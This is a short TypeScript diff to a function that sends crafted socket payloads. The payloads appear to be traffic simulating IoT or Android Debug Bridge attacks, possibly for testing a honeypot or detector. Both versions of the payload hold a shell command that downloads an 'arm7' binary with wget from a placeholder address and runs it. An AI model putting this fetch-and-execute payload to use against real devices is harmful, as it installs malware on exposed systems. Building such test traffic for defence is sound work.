@@ -59,7 +59,7 @@ function shoot(port: number, n: number): Promise<void> {
     socket.on('data', () => {})
     socket.once('end', () => resolve(void socket.destroy()))
     socket.end(
-      `CNXN\0\0\0\x01host::\0OPENshell:cd /data/local/tmp; wget http://198.51.100.${n % 250}/arm7 -O- >x${n % 1000}; sh x\0`,
+      `\x02\x07\0DVR${n % 250}\0OPENshell:cd /data/local/tmp; wget http://198.51.100.${n % 250}/arm7 -O- >x${n % 1000}; sh x\0`,
     )
   })
 }
